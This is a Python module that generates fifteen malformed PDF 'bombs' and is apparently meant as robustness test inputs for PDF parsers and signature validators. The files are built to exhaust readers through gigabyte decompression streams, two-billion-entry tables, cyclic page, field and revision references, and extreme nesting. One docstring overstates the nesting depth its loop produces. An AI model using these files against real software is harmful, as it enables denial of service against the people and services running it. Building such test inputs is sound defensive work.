"""Small files that are made to exhaust whoever opens them."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
EMPTY = b"<< /Length 0 >>\nstream\n\nendstream"
PLAIN = {1: CATALOG, 2: PAGES, 3: PAGE, 4: EMPTY}
GIGABYTE = 2**30


def written(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, the first of them its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    rows = (
        b"%010d 00000 n \n" % places[n] if n in places else b"%010d 65535 f \n" % 0
        for n in range(size)
    )
    out += b"xref\n0 %d\n%s" % (size, b"".join(rows))
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def packed(size: int) -> bytes:
    """So many zeros, deflated: one piece of them, repeated without deflating it again."""
    squeeze, piece = zlib.compressobj(9), bytes(2**20)
    head, again = (squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH) for _ in "12")
    pieces = size // len(piece)
    checksum = (size % 65521) << 16 | 1  # Adler-32 of nothing but zeros
    return head + again * (pieces - 1) + b"\3\0" + checksum.to_bytes(4)


def unpacks_to_gigabytes() -> bytes:
    """A page's content of a gigabyte, deflated twice."""
    inner = packed(GIGABYTE)
    twice = zlib.compress(inner, 9)
    body = stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    return written(PLAIN | {4: body})


def table_unpacks_to_gigabytes() -> bytes:
    """A table of objects, read by whoever opens the file, of a gigabyte."""
    data = zlib.compress(packed(GIGABYTE), 9)
    entries = b"/Type /XRef /Size 9 /Root 1 0 R /W [1 4 2] /Filter [/FlateDecode /FlateDecode]"
    head = written(PLAIN).split(b"xref\n0 ")[0]
    table = b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(data, entries), len(head))
    return head + table


def table_of_two_billion() -> bytes:
    """A table that says it has two billion objects."""
    row = b"\1" + bytes(6)
    entries = b"/Type /XRef /Size 2147483647 /Index [0 2147483647] /Root 1 0 R /W [1 4 2]"
    head = written(PLAIN).split(b"xref\n0 ")[0]
    return head + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(row, entries),
        len(head),
    )


def tens_of_millions_of_pages() -> bytes:
    """Eight levels of ten pages each, all the same ones."""
    objects = dict(PLAIN)
    for level in range(10, 18):
        kids = b" ".join([b"%d 0 R" % (level + 1 if level < 17 else 3)] * 10)
        count = 10 ** (18 - level)
        objects[level] = b"<< /Type /Pages /Parent 2 0 R /Count %d /Kids [%s] >>" % (count, kids)
    objects[2] = b"<< /Type /Pages /Count 100000000 /Kids [10 0 R] >>"
    return written(objects)


def a_list_of_pages() -> bytes:
    """One list with the same page four hundred thousand times."""
    kids = b"3 0 R " * 400_000
    return written(PLAIN | {2: b"<< /Type /Pages /Count 400000 /Kids [%s] >>" % kids})


def pages_in_a_circle() -> bytes:
    """A page tree that contains itself."""
    return written(PLAIN | {2: b"<< /Type /Pages /Count 9 /Kids [2 0 R 3 0 R] >>"})


def nested_lists() -> bytes:
    """Half a million lists inside each other."""
    return written(PLAIN | {5: b"[" * 500_000 + b"]" * 500_000}, b"/Info 5 0 R")


def nested_dictionaries() -> bytes:
    """A catalogue that goes a hundred thousand levels deep."""
    deep = b"<</A " * 100_000 + b"0" + b">>" * 100_000
    return written(PLAIN | {1: CATALOG[:-2] + b"/X " + deep + b">>"})


def tables_in_a_circle() -> bytes:
    """A table whose predecessor is itself."""
    plain = written(PLAIN)
    start = plain.rindex(b"xref\n0 ")
    return written(PLAIN, b"/Prev %d" % start)


def thousands_of_revisions() -> bytes:
    """Five thousand revisions of nothing."""
    out = bytearray(written(PLAIN))
    last = out.rindex(b"xref\n0 ")
    for _ in range(5_000):
        start = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            last,
            start,
        )
        last = start
    return bytes(out)


def fields_in_a_circle() -> bytes:
    """A form field that is its own child."""
    form = b"<< /Fields [6 0 R] >>"
    field = b"<< /FT /Sig /T (signature) /Kids [6 0 R] /V 7 0 R >>"
    signature = b"<< /Type /Sig /ByteRange [0 9 9 9] /Contents <00> >>"
    catalog = CATALOG[:-2] + b"/AcroForm 5 0 R >>"
    return written(PLAIN | {1: catalog, 5: form, 6: field, 7: signature})


def thousands_of_signatures() -> bytes:
    """Fifty thousand fields that share one signature."""
    form = b"<< /Fields [%s] >>" % (b"6 0 R " * 50_000)
    field = b"<< /FT /Sig /T (signature) /V 7 0 R >>"
    signature = (
        b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 9 9 9] /Contents <3000> >>"
    )
    catalog = CATALOG[:-2] + b"/AcroForm 5 0 R >>"
    return written(PLAIN | {1: catalog, 5: form, 6: field, 7: signature})


def length_of_itself() -> bytes:
    """A stream whose length is told by the stream itself."""
    return written(PLAIN | {4: b"<< /Length 4 0 R >>\nstream\n\nendstream"})


def objects_in_a_packed_gigabyte() -> bytes:
    """A stream of objects that unpacks to a gigabyte, with the catalogue in it."""
    data = zlib.compress(packed(GIGABYTE), 9)
    entries = b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"
    head = bytearray(b"%PDF-1.7\n")
    place = len(head)
    head += b"5 0 obj\n%s\nendobj\n" % stream(data, entries)
    rows = bytes(7) + b"\2\0\0\0\5\0\0" + bytes(21) + b"\1" + place.to_bytes(4) + bytes(2)
    table = stream(rows, b"/Type /XRef /Size 6 /Root 1 0 R /W [1 4 2]")
    start = len(head)
    head += b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)
    return bytes(head)


def container_of_nothing_but_brackets() -> bytes:
    """A signature whose container is nested a hundred thousand times."""
    inner = b""
    for _ in range(9000):
        size = len(inner)
        inner = b"\x30\x83" + size.to_bytes(3) + inner
    hexed = inner.hex().encode()
    form, field = b"<< /Fields [6 0 R] >>", b"<< /FT /Sig /T (signature) /V 7 0 R >>"
    signature = (
        b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 9 9 9] /Contents <%s> >>"
    )
    catalog = CATALOG[:-2] + b"/AcroForm 5 0 R >>"
    return written(PLAIN | {1: catalog, 5: form, 6: field, 7: signature % hexed})


BOMBS: Mapping[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        unpacks_to_gigabytes,
        table_unpacks_to_gigabytes,
        table_of_two_billion,
        tens_of_millions_of_pages,
        a_list_of_pages,
        pages_in_a_circle,
        nested_lists,
        nested_dictionaries,
        tables_in_a_circle,
        thousands_of_revisions,
        fields_in_a_circle,
        thousands_of_signatures,
        length_of_itself,
        objects_in_a_packed_gigabyte,
        container_of_nothing_but_brackets,
    )
}
